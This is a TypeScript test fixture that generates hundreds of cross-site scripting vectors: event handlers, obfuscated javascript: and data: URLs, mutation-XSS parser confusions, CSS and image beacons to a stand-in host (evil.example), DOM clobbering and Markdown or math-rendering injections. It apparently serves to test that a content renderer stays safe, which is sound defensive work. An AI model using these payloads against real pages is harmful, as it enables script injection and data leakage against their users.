// Attacks on whoever shows what was extracted, of the kinds that the OWASP cheat sheet and the tests of sanitizers know, as data. In each
// `RUN` stands for a script that reports itself and `HOST` for the host that no request may go to.

/** An attack on who shows a page's content. */
export interface Vector {
  readonly name: string;
  /** What a page has behind its doctype, with its body or the beginning of it. */
  readonly html: string;
}

const handlers: readonly string[] = [
  ...['error', 'load', 'click', 'mouseover', 'animationstart', 'pointerenter', 'focus'].flatMap(
    (event) => [
      `<img src=x on${event}=RUN alt=oak>`,
      `<svg on${event}=RUN><text>oak</text></svg>`,
      `<p on${event}="RUN" tabindex=1 autofocus style="animation:a 1s">oak</p>`,
      `<a href="#" ON${event.toUpperCase()}='RUN'>oak</a>`,
    ],
  ),
  '<body onload=RUN>oak',
  '<body onpageshow=RUN onhashchange=RUN onresize=RUN onscroll=RUN>oak',
  '<details open ontoggle=RUN><summary>oak</summary>elm</details>',
  '<marquee onstart=RUN onbounce=RUN onfinish=RUN>oak</marquee>',
  '<video onloadstart=RUN onerror=RUN src=x><source onerror=RUN src=y>oak</video>',
  '<audio src onerror=RUN oncanplay=RUN>oak</audio>',
  '<input autofocus onfocus=RUN value=oak>',
  '<input type=image src=x onerror=RUN alt=oak>',
  '<select autofocus onfocus=RUN><option onclick=RUN>oak</select>',
  '<textarea autofocus onfocus=RUN>oak</textarea>',
  '<button autofocus onfocus=RUN>oak</button>',
  '<form onsubmit=RUN onreset=RUN><button>oak</button></form>',
  '<iframe onload=RUN src="about:blank">oak</iframe>',
  '<object onerror=RUN data=x>oak</object>',
  '<embed onload=RUN src=x>oak',
  '<table onmouseover=RUN><tr onclick=RUN><td onclick=RUN>oak</table>',
  '<ul onclick=RUN><li onclick=RUN>oak</ul>',
  '<blockquote onmouseover=RUN><p>oak</blockquote>',
  '<pre onclick=RUN><code onclick=RUN>oak</code></pre>',
  '<h1 onclick=RUN contenteditable oncut=RUN onpaste=RUN>oak</h1>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>oak</svg>',
  '<svg><set onend=RUN attributeName=x dur=1s to=1>oak</svg>',
  '<math><mi onclick=RUN>oak</mi></math>',
  '<img/src=x/onerror=RUN//alt=oak>',
  '<img\nsrc=x\nonerror\n=\nRUN alt=oak>',
  '<img src=x onerror="&#82;&#85;&#78;;RUN" alt=oak>',
  '<img """><script>RUN</script>">oak',
  '<img src=x:x onerror=RUN// alt=oak>',
  '<svg/onload=RUN/oak>oak',
  '<p oncontentvisibilityautostatechange=RUN style="content-visibility:auto">oak</p>',
  '<div popover id=p onbeforetoggle=RUN>oak</div><button popovertarget=p>elm</button>',
  '<figure onclick=RUN><img src=x onerror=RUN alt=oak><figcaption onclick=RUN>elm</figcaption></figure>',
];

const decimal = (text: string): string =>
  [...text].map((character) => `&#${character.charCodeAt(0)};`).join('');

/** Addresses that browsers read, or read once, as scripts or as documents with scripts. */
const addresses: readonly string[] = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' javascript:RUN',
  '\tjava\tscript:RUN',
  'java\nscript:RUN',
  'java\r\nscript\n:RUN',
  'java&#9;script:RUN',
  'java&#10;script:RUN',
  'java&#x0D;script:RUN',
  '&#1;javascript:RUN',
  '&#14; javascript:RUN',
  '\x01\x02javascript:RUN',
  'java\0script:RUN',
  '\0javascript:RUN',
  'javascript&colon;RUN',
  'java&Tab;script&colon;RUN',
  'java&NewLine;script:RUN',
  `${decimal('javascript:')}RUN`,
  `${decimal('javascript').replaceAll(';', '').replaceAll('&#', '&#0000')}:RUN`,
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;RUN',
  'javascript://trees.example/%0aRUN',
  'javascript://%0aRUN',
  'javascript:void(0),RUN',
  "javascript:'<svg onload=RUN>'",
  '&nbsp;javascript:RUN',
  '&#x2028;javascript:RUN',
  '&#xFEFF;javascript:RUN',
  'javascript&#x3A;RUN',
  'javascript:RUN//https://trees.example/',
  'view-source:javascript:RUN',
  'feed:javascript:RUN',
  'vbscript:RUN',
  'VBScript&#58;RUN',
  'livescript:RUN',
  'data:text/html,<script>RUN</script>',
  'data:text/html;charset=utf-8,%3Cscript%3ERUN%3C/script%3E',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDApPC9zY3JpcHQ+',
  'data:application/xhtml+xml,<html xmlns="http://www.w3.org/1999/xhtml"><script>RUN</script></html>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>',
  'DATA:image/SVG+XML;base64,PHN2Zz48L3N2Zz4=',
  'data:,RUN',
  'blob:https://trees.example/RUN',
  'filesystem:https://trees.example/RUN',
  'x-unknown:RUN',
];

const addressAttacks: readonly string[] = addresses.flatMap((address) => [
  `<p>An <a href="${address.replaceAll('"', '&quot;')}">oak</a>`,
  `<p>An oak <img src="${address.replaceAll('"', '&quot;')}" alt="oak">`,
]);

/** Places of addresses: elements that load, go or refer somewhere. */
const places: readonly string[] = [
  '<map name=m><area href="TO" alt=oak>oak</map>',
  '<form action="TO"><button>oak</button></form>',
  '<form><button formaction="TO">oak</button><input type=submit formaction="TO" value=elm></form>',
  '<iframe src="TO">oak</iframe>',
  '<object data="TO">oak</object>',
  '<object><param name=movie value="TO">oak</object>',
  '<embed src="TO">oak',
  '<svg><a xlink:href="TO"><text>oak</text></a></svg>',
  '<svg><a><animate attributeName=href to="TO"/><text>oak</text></a></svg>',
  '<svg><use xlink:href="TO#x"/></svg>oak',
  '<svg><image href="TO"/></svg>oak',
  '<svg><script href="TO"></script></svg>oak',
  '<math href="TO"><mi>oak</mi></math>',
  '<math><maction actiontype=statusline xlink:href="TO">oak</maction></math>',
  '<video poster="TO" src="TO">oak</video>',
  '<video><source src="TO"><track default src="TO">oak</video>',
  '<audio src="TO">oak</audio>',
  '<link rel=stylesheet href="TO">oak',
  '<link rel=preload as=script href="TO"><link rel=prefetch href="TO">oak',
  '<link rel="import" href="TO"><link rel=icon href="TO">oak',
  '<meta http-equiv=refresh content="0;url=TO">oak',
  '<base href="TO/">oak <a href=RUN>elm</a>',
  '<table background="TO"><tr><td background="TO">oak</table>',
  '<body background="TO">oak',
  '<input type=image src="TO">oak',
  '<blockquote cite="TO"><q cite="TO">oak</q></blockquote>',
  '<ins cite="TO">oak</ins> <del cite="TO">elm</del>',
  '<script src="TO"></script>oak',
  '<script type=module>import "TO"</script>oak',
  '<frameset><frame src="TO"></frameset>',
  '<applet code="TO" archive="TO">oak</applet>',
  '<bgsound src="TO">oak',
  '<layer src="TO">oak</layer>',
  '<isindex action="TO" type=submit>oak',
  '<a href="#" ping="TO">oak</a>',
  '<portal src="TO">oak</portal>',
  '<iframe srcdoc="<script>RUN</script><img src=TO>">oak</iframe>',
  '<template shadowrootmode=open><iframe src="TO"></iframe></template>oak',
];

const placeAttacks: readonly string[] = places.flatMap((place) => [
  place.replaceAll('TO', 'javascript:RUN'),
  place.replaceAll('TO', 'https://HOST/x'),
]);

/** Elements whose content one reader takes for text and another for tags. */
const confusions: readonly string[] = [
  '<script>RUN</script>oak',
  '<ScRiPt>RUN</sCrIpT>oak',
  '<script\n>RUN</script\n>oak',
  '<script/oak>RUN</script/oak>oak',
  '<scr<script>ipt>RUN</scr</script>ipt>oak',
  '<<script>RUN//<</script>oak',
  '<script><!--\nRUN\n--></script>oak',
  '<script><!--<script>RUN</script>--></script>oak',
  '<!--><img src=x onerror=RUN>--> oak',
  '<!--oak--!><img src=x onerror=RUN alt=oak>',
  '<![CDATA[<img src=x onerror=RUN>]]>oak',
  '<?xml <img src=x onerror=RUN> ?>oak',
  '<!oak<img src=x onerror=RUN>oak',
  '<noscript><p title="</noscript><img src=x onerror=RUN alt=oak>">oak</noscript>',
  '<noscript><style></noscript><img src=x onerror=RUN>oak</style></noscript>oak',
  '<style><img src="</style><img src=x onerror=RUN alt=oak>">oak',
  '<style>oak{}</style ><img src=x onerror=RUN alt=oak>',
  '<title><img title="</title><img src=x onerror=RUN alt=oak>">oak',
  '<textarea><img title="</textarea><img src=x onerror=RUN alt=oak>">oak</textarea>',
  '<xmp><p title="</xmp><img src=x onerror=RUN alt=oak>">oak',
  '<iframe><p title="</iframe><img src=x onerror=RUN alt=oak>">oak',
  '<noembed><p title="</noembed><img src=x onerror=RUN alt=oak>">oak',
  '<noframes><p title="</noframes><img src=x onerror=RUN alt=oak>">oak',
  '<plaintext><img src=x onerror=RUN>oak',
  '<listing>&lt;img src=x onerror=RUN&gt; oak</listing>',
  '<xmp><img src=x onerror=RUN> oak</xmp>',
  '<template><img src=x onerror=RUN><script>RUN</script></template>oak',
  '<select><template><style><img src=x onerror=RUN></style></template><option>oak</select>',
  '<select><img src=x onerror=RUN><style></select><img src=x onerror=RUN alt=oak></style>oak',
  '<table><img src=x onerror=RUN alt=oak><tr><td>elm</table>',
  '<table><style><td></style><tr><td><a href="</style><img src=x onerror=RUN>">oak</a></table>',
  '<table><caption><svg><style><img title="</style><img src=x onerror=RUN>">oak</svg></caption></table>',
  '<svg><style><img src=x onerror=RUN>oak</style></svg>',
  '<svg><style><![CDATA[</style><img src=x onerror=RUN>]]></svg>oak',
  '<svg></p><style><a id="</style><img src=1 onerror=RUN>">oak',
  '<svg><title><style><img title="</style></title><img src=x onerror=RUN>">oak',
  '<svg><desc><noscript><img title="</noscript><img src=x onerror=RUN>">oak</desc></svg>',
  '<svg><foreignObject><p><style><img title="</style><img src=x onerror=RUN>">oak</foreignObject></svg>',
  '<svg><script>RUN</script><text>oak</text></svg>',
  '<svg><script>&#82;UN;RUN</script></svg>oak',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">oak',
  '<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=RUN>">oak',
  '<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=RUN>">oak',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>oak',
  '<math><style><img src=x onerror=RUN></style></math>oak',
  '<p><svg><p><style><img title="</style><img src=x onerror=RUN>">oak',
  '<a><b><a><b><i><table><a>oak<img src=x onerror=RUN></table>',
  '<b><p><b><p><b><p><a title="<img src=x onerror=RUN>">oak',
  '<option><style></option></select><b><img src=x onerror=RUN>oak</style></option>',
  '<ruby>oak<rt><script>RUN</script><rp><img src=x onerror=RUN></ruby>',
  '<dl><dt>oak<style><dd></style><img src=x onerror=RUN><dd>elm</dl>',
  '<custom-oak><script>RUN</script>oak</custom-oak>',
  '<p is="x-oak" onclick=RUN>oak</p>',
  '<xss id=x tabindex=1 onfocusin=RUN>oak</xss>',
  '<scr\0ipt>RUN</scr\0ipt>oak',
  '<script\0>RUN</script>oak',
  '<\0script>RUN</script>oak',
  '<img src=x \0onerror=RUN alt=oak>',
  '<img src=x onerror\0=RUN alt=oak>',
  '<im\0g src=x onerror=RUN>oak',
  '+ADw-script+AD4-RUN+ADw-/script+AD4- oak',
  '<meta charset=utf-7>+ADw-img src=x onerror=RUN+AD4- oak',
  '\u00bcscript\u00beRUN\u00bc/script\u00be oak',
  '\uff1cscript\uff1eRUN\uff1c/script\uff1e oak',
  '\u2039img src=x onerror=RUN\u203a oak',
];

const styles: readonly string[] = [
  '<p style="background:url(javascript:RUN)">oak</p>',
  '<p style="background-image:url(https://HOST/x)">oak</p>',
  '<p style="list-style-image:url(//HOST/x);display:list-item">oak</p>',
  '<p style="content:url(https://HOST/x)">oak</p>',
  '<p style="width:expression(RUN)">oak</p>',
  '<p style="behavior:url(https://HOST/x.htc)">oak</p>',
  '<p style="-moz-binding:url(https://HOST/x.xml#x)">oak</p>',
  '<p style="b\\61ckground:ur\\6c(https://HOST/x)">oak</p>',
  '<p style="cursor:url(https://HOST/x),auto">oak</p>',
  '<p style="border-image:url(https://HOST/x)">oak</p>',
  '<p style="mask:url(https://HOST/x);filter:url(https://HOST/x#y)">oak</p>',
  '<style>@import "https://HOST/x"; p{background:url(https://HOST/y)}</style><p>oak',
  '<style>@font-face{font-family:o;src:url(https://HOST/x)}p{font-family:o}</style><p>oak',
  '<svg><style>*{background:url(https://HOST/x)}</style><text fill="url(https://HOST/y#z)">oak</text></svg>',
  '<table style="background:url(https://HOST/x)"><tr><td style="background:url(https://HOST/y)">oak</table>',
  '<font style="background:url(https://HOST/x)" color="url(https://HOST/y)">oak</font>',
];

/** Attributes of which a rendering takes something: their values must not leave their place. */
const attributes: readonly string[] = [
  ...['"', "'", '`', '&quot;', '&#34;', '\\"', '">', "'>", '--&gt;', ')', '](', '\n\n'].flatMap(
    (mark) => {
      const value = `oak${mark}<img src=x onerror=RUN> onmouseover=RUN `;
      const quote = mark.includes('"') ? "'" : '"';
      return [
        `<p>A <img src="data:image/png;base64,iVBORw0KGgo=" alt=${quote}${value}${quote}>`,
        `<p>A <a href="https://trees.example/" title=${quote}${value}${quote}>link</a>`,
        `<p>A <a href=${quote}https://trees.example/${value}${quote}>link</a>`,
        `<pre><code class=${quote}language-${value}${quote}>oak</code></pre>`,
      ];
    },
  ),
  "<ol start='3\"><img src=x onerror=RUN>'><li>oak<li value='2\" onclick=RUN'>elm</ol>",
  '<table><tr><td colspan=\'2" onmouseover="RUN\' rowspan="2<script>">oak<td align=\'left" onclick=RUN\'>elm</table>',
  '<p lang=\'en" onmouseover="RUN\' dir=\'rtl" onclick="RUN\'>oak</p>',
  '<p>oak<sup><a href="#fn&quot;><img src=x onerror=RUN>">1</a></sup><ol><li id=\'fn"><img src=x onerror=RUN>\'>note</ol>',
  '<img src="data:image/png;base64,iVBORw0KGgo=" width=\'1" onerror="RUN\' height="1><script>RUN</script>" alt=oak>',
  "<time datetime='2026\"><img src=x onerror=RUN>'>oak</time>",
  "<abbr title='\"><img src=x onerror=RUN>'>oak</abbr>",
  '<a href="https://trees.example/" target="javascript:RUN" rel="opener">oak</a>',
  '<a href="https://trees.example/\\" onclick=RUN x="\\">oak</a>',
  '<a href=https://trees.example/`onclick=RUN`>oak</a>',
  '<script type="math/tex">\\href{javascript:RUN}{oak}</script><p>elm',
  '<script type="math/tex">x$</script><p>$<img src=x onerror=RUN>$ elm',
  '<math><annotation encoding="application/x-tex">\\unicode{<img src=x onerror=RUN>}</annotation></math>oak',
];

const clobbering: readonly string[] = [
  '<a id=cookie></a><a id=cookie name=domain href="javascript:RUN">oak</a>',
  '<form name=body><input name=firstChild value=oak></form>oak',
  '<img name=getElementById src="data:image/png;base64,iVBORw0KGgo=" alt=oak>',
  '<form id=document><input id=attributes name=innerHTML></form>oak',
  '<iframe name=top src="about:blank">oak</iframe><a id=defaultView>oak</a>',
  '<p id=querySelectorAll>oak<p id=note-1>elm',
  '<object id=ran name=ran>oak</object>',
];

/** What a renderer of Markdown may take for HTML, links or pictures where it is text or code of the page. */
const markdown: readonly string[] = [
  '[oak](javascript:RUN)',
  '[oak](JAVASCRIPT:RUN "title")',
  '[oak](&lt;javascript:RUN&gt;)',
  '[oak](javascript&amp;colon;RUN)',
  '[oak]( java&amp;Tab;script:RUN)',
  '[oak](data:text/html,&lt;script&gt;RUN&lt;/script&gt;)',
  '![oak](https://HOST/x)',
  '![oak](https://HOST/x "title")',
  '![oak][1]',
  '[![oak](https://HOST/x)](javascript:RUN)',
  '!\\[oak](https://HOST/x)',
  '!&lt;b&gt;[oak](https://HOST/x)',
  '[oak][1] [1]: javascript:RUN',
  '[oak]: https://HOST/x',
  '[^1]: &lt;img src=x onerror=RUN&gt;',
  '&lt;javascript:RUN&gt;',
  '&lt;vbscript:RUN&gt; &lt;data:text/html,x&gt;',
  '&lt;script&gt;RUN&lt;/script&gt;',
  '&#60;script&#62;RUN&#60;/script&#62;',
  '&lt;img src=x onerror=RUN&gt;',
  '&lt;img src=https://HOST/x&gt;',
  '&lt;svg onload=RUN&gt;',
  '&lt;iframe src="https://HOST/x"&gt;&lt;/iframe&gt;',
  '&lt;/p&gt;&lt;script&gt;RUN&lt;/script&gt;',
  '\\&lt;script&gt;RUN\\&lt;/script&gt;',
  '\\\\&lt;img src=x onerror=RUN&gt;',
  '&amp;lt;img src=x onerror=RUN&amp;gt;',
  '&amp;#60;img src=x onerror=RUN&amp;#62;',
  '`oak` &lt;img src=x onerror=RUN&gt; `',
  '`&lt;img src=x onerror=RUN&gt;',
  '``` &lt;img src=x onerror=RUN&gt;',
  '&lt;!-- --&gt;&lt;img src=x onerror=RUN&gt;',
  '&lt;![CDATA[&lt;img src=x onerror=RUN&gt;]]&gt;',
  '&lt;?php &lt;img src=x onerror=RUN&gt; ?&gt;',
  '&lt;!X&gt;&lt;img src=x onerror=RUN&gt;',
  '| oak | &lt;img src=x onerror=RUN&gt; | \\| &lt;script&gt;RUN&lt;/script&gt;',
  '$x$ &lt;img src=x onerror=RUN&gt; $',
  '**oak&lt;img src=x onerror=RUN&gt;**',
  '~~oak~~&lt;img src=x onerror=RUN&gt;',
  '&lt;<b>img</b> src=x onerror=RUN&gt;',
  '&lt;img<i> src=x onerror=RUN&gt;</i>',
  '&lt;img src=x <a href="https://trees.example/">onerror=RUN&gt;</a>',
  '&lt;<!-- -->img src=x onerror=RUN&gt;',
  '&lt;<span></span>script&gt;RUN&lt;<span></span>/script&gt;',
  '[oak]<b>(javascript:RUN)</b>',
  '[oak<i>](javascript:RUN)</i>',
  '!<b></b>[oak](https://HOST/x)',
  'oak<br>&lt;img src=x onerror=RUN&gt;',
  'oak<br>===<br>&lt;script&gt;RUN&lt;/script&gt;',
  'oak&#10;&#10;&lt;img src=x onerror=RUN&gt;',
];

/** Where text of a page may stand; `TEXT` is the text. */
const textPlaces: readonly string[] = [
  '<p>TEXT</p>',
  '<h2>TEXT</h2>',
  '<ul><li>TEXT<li>elm</ul>',
  '<blockquote>TEXT</blockquote>',
  '<table><tr><th>Tree<th>Age<tr><td>TEXT<td>3</table>',
  '<p>The <code>TEXT</code> of code',
  '<pre>TEXT</pre>',
  '<dl><dt>TEXT<dd>TEXT</dl>',
];

const textAttacks: readonly string[] = markdown.flatMap((text) =>
  textPlaces.map((place) => place.replaceAll('TEXT', text)),
);

const codeAttacks: readonly string[] = [
  '<pre><code>\n```\n&lt;script&gt;RUN&lt;/script&gt;\n</code></pre>',
  '<pre><code>~~~\n````\n&lt;img src=x onerror=RUN&gt;\n~~~</code></pre>',
  '<pre>oak\n\n    ```\n\n&lt;img src=x onerror=RUN&gt;</pre>',
  '<ul><li><pre>```\n&lt;img src=x onerror=RUN&gt;</pre></ul>',
  '<blockquote><pre>```\n\n&lt;img src=x onerror=RUN&gt;</pre></blockquote>',
  '<p><code>`</code>&lt;img src=x onerror=RUN&gt;<code>`</code>',
  '<p><code>oak``</code> &lt;script&gt;RUN&lt;/script&gt;',
  '<p><code></code>`&lt;img src=x onerror=RUN&gt;`',
  '<table><tr><th>Tree<th>Age<tr><td><code>|</code>&lt;img src=x onerror=RUN&gt;<td>3</table>',
  '<table><tr><th>Tree<th>Age<tr><td><code>\\|`</code>&lt;img src=x onerror=RUN&gt;<td>3</table>',
  '<pre><code class="language-html">&lt;script&gt;RUN&lt;/script&gt;</code></pre>',
  '<p><a href="https://trees.example/)%20<img%20src=x%20onerror=RUN>">oak</a>',
  '<p><a href="https://trees.example/&gt;&lt;img src=x onerror=RUN&gt;">https://trees.example/&gt;&lt;img src=x onerror=RUN&gt;</a>',
  '<p><a href="https://trees.example/">](javascript:RUN)</a>',
  '<p><a href="https://trees.example/">oak][oak]</a>: javascript:RUN',
  '<p><a href="https://trees.example/\n\n<script>RUN</script>">oak</a>',
  '<p><a href="https://trees.example/ &quot;oak&quot;) <img src=x onerror=RUN>">oak</a>',
  '<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="](javascript:RUN) [elm">',
  '<p><img src="data:image/png;base64,iVBORw0KGgo=)&#10;&#10;<script>RUN</script>" alt=oak>',
  '<p>oak^[&lt;img src=x onerror=RUN&gt;] [^oak]',
];

/** Constructs that renderings make something of by what classes, attributes and scripts say. */
const constructs: readonly string[] = [
  ...[
    '<img src=x onerror=RUN>',
    '</script><script>RUN</script>',
    '$<svg onload=RUN>$',
    '![oak](https://HOST/x)',
    '<javascript:RUN>',
  ].flatMap((attack) => {
    const text = attack.replaceAll('<', '&lt;').replaceAll('>', '&gt;');
    return [
      `<p>oak <img class="mwe-math-fallback-image-inline" alt="{\\displaystyle ${text}}" src="data:image/png;base64,iVBORw0KGgo=">`,
      `<p>oak <span class="katex"><span class="katex-mathml"><math><semantics><mi>x</mi><annotation encoding="application/x-tex">${text}</annotation></semantics></math></span></span>`,
      `<p>oak <math><mtext>${text}</mtext><mi>${text}</mi></math>`,
      `<p>oak <math alttext="${text}"><mi>x</mi></math>`,
      `<p>oak <span class="MathJax" data-mathml="${text}">${text}</span>`,
      `<p>oak \\(${text}\\) and \\[${text}\\] and $$${text}$$`,
      `<p>oak<sup><a href="#fn1">1</a></sup><ol class=footnotes><li id=fn1>${text} <a href="#fnref1">back</a></ol>`,
      `<details><summary>oak ${text}</summary>${text}</details>`,
      `<p><ruby>oak ${text}<rt>${text}</rt></ruby>`,
      `<figure><img src="data:image/png;base64,iVBORw0KGgo=" alt="${text}"><figcaption>oak ${text}</figcaption></figure>`,
      `<p><kbd>oak ${text}</kbd> <mark>${text}</mark> <sub>${text}</sub> <del>${text}</del>`,
      `<table><caption>oak ${text}</caption><tr><th>${text}<th>b<tr><td>${text}<td>c</table>`,
      `<div class=comments><article class=comment itemscope itemtype="https://schema.org/Comment"><span class=author itemprop=author>${text}</span><time datetime="${text}">today</time><p>The oak is older than all of us here.</article><article class=comment><span class=author>${text}</span><time datetime="${text}">today</time><p>The elm is younger than all of us here.</article></div>`,
      `<a name="${text}" id="${text}">oak</a><p class="${text}" style="${text}">elm`,
    ];
  }),
  ...['a`b', 'a```b', '\\`', '~~~', '[oak]: javascript:RUN', '$', '$$', '\\begin{x}'].flatMap(
    (formula) => [
      `<p>oak <script type="math/tex">${formula}</script> <code>&lt;img src=x onerror=RUN&gt;</code>`,
      `<p>oak</p><script type="math/tex; mode=display">${formula}</script><pre>~~~\n&lt;img src=x onerror=RUN&gt;</pre><p>[oak]`,
    ],
  ),
  '<p>oak <img data-src="javascript:RUN" data-lazy-src="javascript:RUN" data-original="javascript:RUN" alt=oak>',
  '<p>oak <img srcset="javascript:RUN 1x, data:text/html,<script>RUN</script> 2x" alt=oak>',
  '<p>oak <picture><source srcset="javascript:RUN"><img src="vbscript:RUN" alt=oak></picture>',
  '<p>oak <noscript><img src="javascript:RUN" onerror=RUN alt=oak></noscript>',
  '<p>oak <img src="data:image/svg+xml;base64,PHN2Zy8+" alt="oak">',
  '<p>oak <img src="data:image/png,<script>RUN</script>" alt=oak>',
  '<p>oak <img src="data:image/png;x=&quot;onerror=RUN//,x" alt=oak>',
  '<ul><li><input type=checkbox onclick=RUN checked> oak<li><input type="checkbox" onfocus=RUN autofocus> elm</ul>',
  '<p>oak <a href="mailto:a@trees.example?body=%3Cscript%3ERUN%3C/script%3E">mail</a>',
  '<p>oak <a href="mailto:&quot;onclick=RUN//@trees.example">mail</a>',
  '<p>oak <a href="//trees.example/&#10;javascript:RUN">elm</a>',
  '<p>oak <a href="https:javascript:RUN">elm</a> <a href="?javascript:RUN">ash</a> <a href="./javascript:RUN">fir</a>',
];

/** Heads of pages whose metadata renderings show: the title above the text. */
const heads: readonly string[] = [
  '<img src=x onerror=RUN>',
  '</h1><script>RUN</script>',
  '"><svg onload=RUN>',
  '[oak](javascript:RUN)',
  '![oak](https://HOST/x)',
  '<javascript:RUN>',
  '`<img src=x onerror=RUN>',
  '</title><script>RUN</script>',
].flatMap((attack) => {
  const text = attack.replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
  const json = JSON.stringify(attack).replaceAll('<', '\\u003c');
  return [
    `<title>oak ${text}</title>`,
    `<meta property="og:title" content="oak ${text}">`,
    `<script type="application/ld+json">{"@type": "Article", "headline": ${json}, "author": ${json}}</script>`,
  ];
});

const kinds: Readonly<Record<string, readonly string[]>> = {
  handlers,
  addresses: addressAttacks,
  places: placeAttacks,
  confusions,
  styles,
  attributes,
  clobbering,
  text: textAttacks,
  code: codeAttacks,
  constructs,
  heads: heads.map((head) => `${head}<p>An oak.`),
};

/** All attacks; each reports itself by its number among them. */
export const vectors: readonly Vector[] = Object.entries(kinds)
  .flatMap(([kind, attacks]) => attacks.map((html, i) => ({ name: `${kind} ${i}`, html })))
  .map(({ name, html }, i) => ({
    name,
    html: html.replaceAll('RUN', `ran(${i})`).replaceAll('HOST', `v${i}.evil.example`),
  }));
